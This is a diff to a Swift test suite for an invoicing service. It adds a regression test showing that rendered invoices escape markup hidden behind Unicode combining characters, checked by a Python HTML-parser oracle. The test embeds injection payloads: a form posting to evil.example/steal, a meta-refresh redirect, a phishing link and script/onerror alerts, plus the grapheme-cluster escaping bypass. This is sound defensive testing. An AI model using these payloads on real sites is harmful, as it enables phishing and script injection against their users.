@@ -1,4 +1,5 @@
 import Foundation
+import PropertyTestSupport
 import Support
 import Testing
 
@@ -120,4 +121,64 @@ struct InvoicesTests {
         #expect(try server.call("render_invoice", key: key, query: ["id": id, "format": "pdf"]).status == 200)  // InvoicePDFTests
         #expect(try server.call("render_invoice", key: key, query: ["id": id, "format": "doc"]).status == 400)
     }
+
+    /// Issue 20: U+0600 forms one grapheme cluster with the `<` after it, so an escaper comparing
+    /// `Character`s let these through as a real `<form>`, `<meta http-equiv=refresh>`, `<a>`, `<img>`
+    /// and `<script>`. Python's `html.parser` must find only the page's own elements, and each
+    /// description as the text of its cell.
+    @Test func render_EscapesMarkupHiddenInGraphemeClusters() throws {
+        let (t, key) = try tenantAdmin()
+        let payloads = [
+            "\u{0600}<form action=https://evil.example/steal method=post \u{0600}>",
+            "\u{0600}<meta http-equiv=refresh content=\"0;url=https://evil.example/\"\u{0600}>",
+            "\u{0600}<a href=https://evil.example/\u{0600}>pay here\u{0600}</a\u{0600}>",
+            "\u{0600}<img src=x onerror=alert(1)\u{0600}>",
+            "\u{08E2}<script\u{0605}>alert(1)\u{0603}</script\u{0601}>",
+        ]
+        _ = try server.call("update_tenant", key: server.superKey, body: ["id": .string(t), "name": .string(payloads[0])])
+        let created = try server.call("create_invoice", key: key, body: [
+            "due_date": "2026-12-31", "notes": .string(payloads[1]),
+            "line_items": .array(payloads.map { ["description": .string($0), "amount_cents": 100] }),
+        ])
+        #expect(created.status == 201, "\(created.text)")
+        let html = try server.call("render_invoice", key: key, query: ["id": created.data["id"]?.stringValue ?? ""])
+        #expect(html.status == 200)
+        for tag in ["<form", "<meta http", "<a ", "<img", "<script"] {
+            #expect(!html.text.contains(tag), "\(tag) is in the page")
+        }
+        let failures = try Self.pageOracle.failures([[html.text] + payloads])
+        #expect(failures.count == 0, "\(failures.first ?? "")")
+    }
+
+    /// Python's `html.parser` over a whole rendered invoice: only the template's elements and
+    /// attributes, and every given payload present as the text of one element.
+    static let pageOracle = PythonOracle(script: PythonOracle.prelude + """
+        import html.parser
+
+        ELEMENTS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "div", "section", "table", "thead",
+                    "tbody", "tfoot", "tr", "th", "td", "p"}
+        ATTRIBUTES = {"lang", "charset", "class", "colspan"}
+
+        class Page(html.parser.HTMLParser):
+            def __init__(self):
+                super().__init__(convert_charrefs=True)
+                self.problems, self.texts = [], []
+            def handle_starttag(self, tag, attrs):
+                if tag not in ELEMENTS: self.problems.append("element " + tag)
+                for name, _ in attrs:
+                    if name not in ATTRIBUTES: self.problems.append("attribute %s on %s" % (name, tag))
+            def handle_startendtag(self, tag, attrs): self.handle_starttag(tag, attrs)
+            def handle_data(self, data): self.texts.append(data.strip())
+            def handle_comment(self, data): self.problems.append("comment")
+            def handle_decl(self, decl):
+                if decl.lower() != "doctype html": self.problems.append("declaration " + decl)
+
+        for page, *payloads in cases():
+            parser = Page()
+            parser.feed(page)
+            parser.close()
+            missing = [p for p in payloads if p.strip() not in parser.texts]
+            problems = parser.problems + ["text missing: " + p for p in missing]
+            print("ok" if not problems else "fail " + ascii(problems)[:400])
+        """)
 }
